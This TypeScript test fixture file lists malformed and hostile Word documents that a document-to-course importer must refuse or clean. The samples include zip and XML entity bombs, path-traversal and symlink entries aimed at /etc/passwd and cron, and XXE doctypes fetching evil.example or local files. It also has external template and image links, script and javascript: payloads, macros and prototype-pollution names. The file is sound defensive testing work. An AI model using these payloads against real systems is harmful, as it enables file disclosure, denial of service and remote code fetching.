import { deflateRawSync } from "node:zlib";
import {
  heading,
  NAMESPACES,
  packed,
  paragraph,
  partRelation,
  relations,
  run,
  table,
  type WordParts,
  word,
  wordParts,
  XML,
} from "./build";
import { rawZip } from "./raw-zip";

const plain = () => wordParts(heading(1, "One") + paragraph("Words."));
/** A document of one heading and this. */
const body = (inner: string): WordParts => wordParts(heading(1, "One") + inner);
const swapped = (name: string, change: (text: string) => string): WordParts => {
  const parts = plain();
  parts[name] = change(String(parts[name]));
  return parts;
};

const BILLION = `<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${"bcdefghij".replace(/./g, (letter, at) => `<!ENTITY ${letter} "${`&${"abcdefghij"[at]};`.repeat(10)}">`)}]>`;
const MEGABYTES = (count: number) => new Uint8Array(count * 1_000_000).fill(32);

/** Files that are called Word, with why no course can be made of them. */
export const REFUSED_FILES: [string, () => Uint8Array, string][] = [
  ["nothing", () => new Uint8Array(), "not-a-package"],
  ["words", () => new TextEncoder().encode("Dear all,"), "not-a-package"],
  ["a PDF that is called .docx", () => new TextEncoder().encode("%PDF-1.7\n"), "not-a-package"],
  [
    "a web page that is called .docx",
    () => new TextEncoder().encode("<html></html>"),
    "not-a-package",
  ],
  [
    "an old .doc, or one with a password",
    () => new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
    "old-word",
  ],
  ["a zip of other things", () => packed({ "a.txt": "a" }), "not-a-package"],
  ["the start of a zip", () => packed(plain()).subarray(0, 400), "damaged"],
  [
    "a zip with bytes turned over",
    () => packed(plain()).map((byte, at) => (at > 60 && at < 200 ? byte ^ 255 : byte)),
    "damaged",
  ],
  [
    "a spreadsheet",
    () =>
      packed(
        swapped("[Content_Types].xml", (text) =>
          text.replace("wordprocessingml.document", "spreadsheetml.sheet"),
        ),
      ),
    "other-office",
  ],
  [
    "a document with macros",
    () =>
      packed(
        swapped("[Content_Types].xml", (text) =>
          text.replace(
            /application\/vnd\.openxmlformats-officedocument\.wordprocessingml\.document\.main\+xml/,
            "application/vnd.ms-word.document.macroEnabled.main+xml",
          ),
        ),
      ),
    "macros",
  ],
  [
    "macros under a plain name",
    () => packed({ ...plain(), "word/vbaProject.bin": new Uint8Array([1]) }),
    "macros",
  ],
  ["a bomb of spaces", () => packed({ ...plain(), "word/document.xml": MEGABYTES(20) }), "bomb"],
  [
    "a bomb in a picture that is not read",
    () => packed({ ...plain(), "word/media/a.png": MEGABYTES(60) }),
    "bomb",
  ],
  [
    "a part that is too large, stored",
    () => packed({ ...plain(), "word/styles.xml": MEGABYTES(25) }, 0),
    "too-large",
  ],
  [
    "many parts that are too large together",
    () =>
      packed(
        { ...plain(), "word/header1.xml": MEGABYTES(21), "word/header2.xml": MEGABYTES(21) },
        0,
      ),
    "too-large",
  ],
  [
    "three thousand parts",
    () =>
      packed(
        {
          ...plain(),
          ...Object.fromEntries(
            Array.from({ length: 3_000 }, (_, nth) => [`word/media/${nth}.png`, ""]),
          ),
        },
        0,
      ),
    "too-many",
  ],
  ["a part that climbs out", () => rawZip([{ name: "../../etc/cron.d/x", data: "x" }]), "slip"],
  ["a part with an absolute name", () => rawZip([{ name: "/etc/passwd", data: "x" }]), "slip"],
  ["a part on a drive", () => rawZip([{ name: "C:\\Windows\\x", data: "x" }]), "slip"],
  [
    "a part with a hidden character in its name",
    () => rawZip([{ name: "word/a\u0000.xml", data: "x" }]),
    "slip",
  ],
  [
    "a part that is a link",
    () => rawZip([{ name: "word/document.xml", data: "/etc/passwd", mode: 0o120777 }]),
    "link",
  ],
  [
    "two parts of one name",
    () =>
      rawZip([
        { name: "word/document.xml", data: "a" },
        { name: "word/document.xml", data: "b" },
      ]),
    "twice",
  ],
  [
    "two parts of one name in other letters",
    () =>
      rawZip([
        { name: "word/document.xml", data: "a" },
        { name: "Word/Document.XML", data: "b" },
      ]),
    "twice",
  ],
  [
    "a part that is locked",
    () => rawZip([{ name: "word/document.xml", data: "a".repeat(13), size: 1, flags: 1 }]),
    "locked",
  ],
  [
    "a part that unpacks to more than it says",
    () =>
      rawZip([
        ...Object.entries(plain())
          .filter(([name]) => name !== "word/document.xml")
          .map(([name, data]) => ({ name, data })),
        {
          name: "word/document.xml",
          packed: deflateRawSync(Buffer.alloc(3_000_000)),
          size: 100,
          method: 8,
        },
      ]),
    "damaged",
  ],
  [
    "a document type with an entity bomb",
    () => packed(swapped("word/document.xml", (text) => text.replace(XML, `${XML}${BILLION}`))),
    "doctype",
  ],
  [
    "a document type that fetches",
    () =>
      packed(
        swapped("word/document.xml", (text) =>
          text.replace(XML, `${XML}<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`),
        ),
      ),
    "doctype",
  ],
  [
    "a document type in the styles",
    () =>
      packed(
        swapped("word/styles.xml", (text) =>
          text.replace(XML, `${XML}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>`),
        ),
      ),
    "doctype",
  ],
  [
    "a document type in a part that is not read",
    () => packed({ ...plain(), "word/theme/theme1.xml": `${XML}<!DOCTYPE x><x/>` }),
    "doctype",
  ],
  [
    "an entity that nobody declared",
    () => packed(swapped("word/document.xml", (text) => text.replace("Words.", "&secret;"))),
    "broken",
  ],
  [
    "XML that ends nowhere",
    () => packed(swapped("word/document.xml", (text) => text.slice(0, -20))),
    "broken",
  ],
  [
    "bytes that are no text",
    () => packed({ ...plain(), "word/document.xml": new Uint8Array([0x3c, 0xff, 0xfe, 0x3e]) }),
    "broken",
  ],
  [
    "no main part",
    () =>
      packed(
        Object.fromEntries(
          Object.entries(plain()).filter(([name]) => name !== "word/document.xml"),
        ),
      ),
    "broken",
  ],
  [
    "a main part of another language",
    () => packed(swapped("word/document.xml", () => "<html><body/></html>")),
    "broken",
  ],
  [
    "controls nested five thousand deep",
    () =>
      packed(
        body(`${"<w:sdt><w:sdtContent>".repeat(5_000)}${"</w:sdtContent></w:sdt>".repeat(5_000)}`),
      ),
    "deep",
  ],
  [
    "tables nested a hundred deep",
    () =>
      packed(body(`${"<w:tbl><w:tr><w:tc>".repeat(100)}${"</w:tc></w:tr></w:tbl>".repeat(100)}`)),
    "deep",
  ],
  [
    "a hundred thousand paragraphs",
    () => packed(body(paragraph("Words of a paragraph.").repeat(100_000)), 0),
    "many",
  ],
  [
    "fifty thousand short paragraphs",
    () => packed(body("<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(50_000)), 0),
    "long",
  ],
  [
    "a million pieces in one paragraph",
    () => packed(body(`<w:p>${"<w:r><w:t>a</w:t></w:r>".repeat(250_000)}</w:p>`), 0),
    "many",
  ],
  ["no words", () => packed(wordParts("<w:p/>")), "no-words"],
  [
    "thirty lessons",
    () =>
      packed(
        wordParts(
          Array.from({ length: 30 }, (_, nth) => heading(1, `L${nth}`) + paragraph("a")).join(""),
        ),
      ),
    "too-many-lessons",
  ],
];

/** Documents that hold harm beside words: the words become a course. */
export const CLEANED_FILES: [string, () => Uint8Array][] = [
  [
    "a template at another address",
    () =>
      packed({
        ...plain(),
        "word/settings.xml": `${XML}<w:settings ${NAMESPACES}><w:attachedTemplate r:id="rId1"/></w:settings>`,
        "word/_rels/settings.xml.rels": relations(
          partRelation(
            "rId1",
            "attachedTemplate",
            "https://evil.example/t.dotm",
            ' TargetMode="External"',
          ),
        ),
      }),
  ],
  [
    "a picture at another address",
    () =>
      packed(
        wordParts(
          heading(1, "One") +
            paragraph(
              `${run("a")}<w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="{x}"/><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="rId8"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
            ),
          partRelation("rId8", "image", "file:///etc/passwd", ' TargetMode="External"'),
        ),
      ),
  ],
  [
    "a page inserted whole",
    () =>
      packed({
        ...wordParts(
          `${heading(1, "One")}<w:altChunk r:id="rId7"/>${paragraph("a")}`,
          partRelation("rId7", "aFChunk", "a.html"),
        ),
        "word/a.html": "<script>alert(1)</script>",
      }),
  ],
  [
    "files of other programs",
    () => packed({ ...plain(), "word/embeddings/oleObject1.bin": new Uint8Array(1_000) }),
  ],
  [
    "words that are code",
    () =>
      word(
        heading(1, "{alert(1)}") +
          paragraph("&lt;script&gt;{process.exit()}&lt;/script&gt; export const a = 1") +
          table(["{a}", "|"], ["&lt;b", "`"]),
      ),
  ],
  [
    "a link's field with a script",
    () =>
      word(
        heading(1, "One") +
          paragraph(
            `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run("a")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
          ),
      ),
  ],
  [
    "fields that never end",
    () =>
      word(
        heading(1, "One") +
          paragraph(
            `${run("a")}${'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(50)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
          ),
      ),
  ],
  [
    "cells as wide as the sea",
    () =>
      word(
        `${heading(1, "One")}<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr>${paragraph("a")}</w:tc><w:tc>${paragraph("b")}</w:tc></w:tr></w:tbl>`,
      ),
  ],
  [
    "a style that is based on itself",
    () =>
      packed({
        ...plain(),
        "word/styles.xml": `${XML}<w:styles ${NAMESPACES}><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="x"/><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:name w:val="y"/><w:basedOn w:val="Heading1"/></w:style></w:styles>`,
      }),
  ],
  [
    "names of the language's own",
    () =>
      packed(
        swapped("word/document.xml", (text) =>
          text
            .replace("Words.", "__proto__ constructor")
            .replace("<w:r ", '<w:r w:__proto__="x" w:constructor="y" '),
        ),
      ),
  ],
  [
    "UTF-16",
    () =>
      packed({
        ...plain(),
        "word/document.xml": Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(String(plain()["word/document.xml"]).replace("UTF-8", "UTF-16"), "utf16le"),
        ]),
      }),
  ],
  [
    "the strict kind of Office",
    () =>
      packed(
        Object.fromEntries(
          Object.entries(plain()).map(([name, part]) => [
            name,
            typeof part === "string"
              ? part
                  .replaceAll(
                    "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                    "http://purl.oclc.org/ooxml/wordprocessingml/main",
                  )
                  .replaceAll(
                    "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                    "http://purl.oclc.org/ooxml/officeDocument/relationships",
                  )
              : part,
          ]),
        ),
      ),
  ],
  [
    "other prefixes for the same names",
    () =>
      packed(
        swapped("word/document.xml", (text) =>
          text.replaceAll("w:", "x:").replace('xmlns:w="', 'xmlns:x="'),
        ),
      ),
  ],
  [
    "no styles, lists or relations",
    () =>
      packed(
        Object.fromEntries(
          Object.entries(plain()).filter(([name]) =>
            ["[Content_Types].xml", "_rels/.rels", "word/document.xml"].includes(name),
          ),
        ),
      ),
  ],
];
